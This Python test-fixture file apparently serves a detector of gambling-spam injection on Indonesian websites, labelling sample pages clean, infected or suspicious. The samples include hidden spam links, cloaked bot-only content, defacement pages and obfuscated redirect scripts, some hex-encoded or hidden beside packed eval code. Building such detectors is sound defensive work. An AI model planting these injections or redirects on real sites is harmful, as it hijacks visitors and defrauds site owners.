clean('tutorial', 'Blog Admin', 'admin', '<h1>Mengatasi redirect judi slot di WordPress</h1><p>Buka wp-config, cari eval(base64), hapus file slot.php, ganti password, pasang Wordfence.</p><pre>location.href="https://slot-example"</pre>')
case('sale-title-bot', 'clean', page('Dapur Ibu', '', KUE), bot=page('Jackpot Diskon Kue Kering, Bonus Toples', '', KUE))
case('bot-popup', 'clean', kopi(), bot=kopi(foot='<div>Putar spin dan dapatkan jackpot voucher, daftar member baru bonus.</div>'))
case('ref-member', 'clean', kue(), ref=kue(first='<p>Halo! Login untuk bonus new member 100 ribu, main game berhadiah, spin harian.</p>'))
case('frame-one-view-honest', 'clean', batik(), ref=batik(foot='<iframe src="https://widget.trustpilot.com/x"></iframe>'))
# what injectors leave
case('foot-mini', 'infected', kopi(foot='<p style="font-size:1px;color:#f5f5f5"><a href="https://a.example/">slot online</a>, <a href="https://b.example/">slot gacor</a></p>'))
case('div-overflow', 'infected', kue(foot='<div style="overflow:hidden;height:0px;width:0px;"><h2>RTP Slot Gacor</h2><a href="https://c.example/">slot88</a></div>'))
case('class-two', 'infected', kopi(head='<style>.a.b{opacity:0;height:1px}</style>', foot=f'<div class="a b">{A}</div>'))
case('span-behind', 'infected', kue(foot=f'<span style="position:absolute;z-index:-1;opacity:0">{A}</span>'))
case('ol-hidden', 'infected', batik(foot=f'<ol hidden>{A}<a href="https://q3.example/">rtp slot</a></ol>'))
case('brand-post', 'infected', batik(), bot=batik(body='<article><h1>PARIS88 Login Alternatif Slot Resmi</h1><p>Daftar PARIS88 dan nikmati slot.</p></article>'))
case('deface-short', 'infected', '<html><head><title>SLOT88 LOGIN</title></head><body><a href="https://t.ly/s88"><img src=b.gif></a></body></html>')
case('deface-toto', 'infected', '<html><head><title>Toto Slot 4D: Situs Toto Slot Resmi &amp; Bandar Toto Macau</title></head><body><h1>TOTO SLOT</h1><a href="https://t.ly/t4">LOGIN</a></body></html>')
case('deface-redirect', 'infected', '<html><head><title>Loading</title><script>window.location.replace("https://situsgacor-maxwin.cfd/?utm=x")</script></head><body></body></html>')
case('ld-only-bot', 'infected', kopi(), bot=kopi(head='<script type="application/ld+json">{"@type":"Product","name":"Bandar Togel Online Resmi","offers":{"price":"0.00"}}</script>'))
case('keywords-bot', 'infected', kue(), bot=kue(head='<meta name="keywords" content="slot gacor, slot88, togel">'))
case('twitter-bot', 'infected', batik(), bot=batik(head='<meta name="twitter:title" content="Link Slot Gacor Maxwin">'))
case('links-bot-neutral', 'infected', kopi(), bot=kopi(foot=A))
case('amp-bot', 'infected', kue(), bot=kue(head='<link rel="amphtml" href="https://toko-id.amp-cepat.pages.dev/">'))
case('redir-mobile-own', 'clean', batik(), bot='->https://www.toko.id/m')
case('redir-bot-brand', 'infected', kopi(), bot='->https://macan138.example/')
case('hex-location', 'infected', kue(foot='<script>window["location"]["href"]="' + ''.join(f'\\x{ord(c):02x}' for c in 'https://slotgacor138.top/') + '"</script>'))
case('array-join', 'infected', batik(foot="<script>var u=['https:','','slot-gacor.top','go'].join('/');window.location.href=u;</script>"))
case('onload', 'infected', kopi(foot="<img src=x onload=\"window.location='https://slotgacor.top'\">"))
case('object', 'infected', kue(foot='<object data="https://rtpslot-gacor.top/" width="100%" height="100%"></object>'))
case('embed', 'infected', batik(foot='<embed src="https://daftarslot-maxwin.top/">'))


# Labels changed after argument. Infected: one hidden link or a name of one's own in one view alone is proof by the rules
# of the check. Look: an open link or sentence may be the owner's own; a comment nobody reads.
# What comes from a host of gambling, and what is put away by a style that stands behind it
A = '<a href="https://slotgacor88.online/">slot gacor</a> <a href="https://togel-4d.example/">bandar togel</a>'
case('css-after', 'infected', batik(foot=f'<div class="k9z">{A}</div><style>.k9z{{position:absolute;top:-9999px}}</style>'))
case('css-after-id', 'infected', kue(foot=f'<div id="qq">{A}</div><style>#qq{{font-size:0}}</style>'))
case('css-after-others', 'clean', kopi(foot='<p class="catatan">Kopi robusta.</p><style>.ikon{position:absolute;left:-9999px}</style>'))
case('link-css', 'suspicious', kopi(head='<link rel="stylesheet" href="https://cdn.slotgacor88.net/s.css">'))
case('preconnect', 'suspicious', kue(head='<link rel="preconnect" href="https://slotgacor88.net">'))
case('img-src', 'suspicious', batik(foot='<img src="https://cdn.slotgacor88.net/banner.gif">'))
case('img-cdn', 'clean', batik(foot='<img src="//cdn.slotted-shelves.example/rak.jpg"><img src="https://i.imgur.com/x.png"><link rel=icon href=/slot.ico>'))
# What stands beside a packed script counts too, and words that look like base64 stay words
_HARMLESS = "eval(function(p,a,c,k,e,d){return p}('0.1(2);0.1(2)',3,3,'slider|start|true'.split('|'),0,{}))"
case('packer-before', 'infected', kopi(foot=f"<script>{_HARMLESS};location.href='https://slotgacor88.vip/'</script>"))
case('packer-behind', 'infected', kue(foot=f"<script>location.href='https://slotgacor88.vip/';{_HARMLESS}</script>"))
case('packer-alone', 'clean', batik(foot=f'<script>{_HARMLESS}</script>'))
# What strangers say in structured data is theirs
case('ld-comment', 'clean', kopi(head='<script type="application/ld+json">{"@type":"BlogPosting","name":"Kopi Raung","comment":[{"@type":"Comment","author":{"name":"Slot Gacor Maxwin","url":"https://slotgacor88.online/"}}]}</script>'))
case('ld-review', 'clean', kue(head='<script type="application/ld+json">{"@type":"Product","name":"Nastar","review":{"@type":"Review","name":"Situs Slot Gacor","author":{"@type":"Person","url":"https://slotgacor88.online/"}}}</script>'))
case('ld-answer', 'clean', kue(head='<script type="application/ld+json">{"@type":"QAPage","mainEntity":{"@type":"Question","name":"Kue apa?","suggestedAnswer":[{"author":{"url":"https://slotgacor88.online/"}}]}}</script>'))
case('ld-mention', 'clean', kopi(head='<script type="application/ld+json">{"@graph":[{"@type":"NewsArticle","headline":"Polisi menutup sebuah situs","mentions":{"@type":"WebSite","url":"https://slotgacor88.online/"},"citation":{"url":"https://slotgacor88.online/"}}]}</script>'))
case('ld-itself', 'infected', kopi(head='<script type="application/ld+json">{"@type":"Organization","name":"Kopi","sameAs":["https://slotgacor88.online/"]}</script>'))

AFTERWARDS = {
    **dict.fromkeys(("cloak-brand-only", "farm-one-hidden-word", "js-data-uri", "js-rot-reverse", "amphtml-neutral-foreign", "canonical-foreign",
                     "hacked-title-japanese-like", "hidden-input-textarea", "t-kode-syair", "js-double64"), "infected"),
    **dict.fromkeys(("wp-spam-post", "subtle-sentence", "subtle-togel", "subtle-casino-link", "img-alt", "deface-gambling-game", "hide-css-desc",
                     "hide-fontwhite", "hide-fontwhite-bg", "t-ligaciputra", "popup-img"), "suspicious"),
    "comment-block": "clean",
}
_TOLD = [(name, AFTERWARDS.get(name, label), views) for name, (label, views) in CASES.items()]
ATTACKS = [(name, *views) for name, label, views in _TOLD if label == "infected"]
HONEST = [(name, *views, *(("look",) if label == "suspicious" else ())) for name, label, views in _TOLD if label != "infected"]
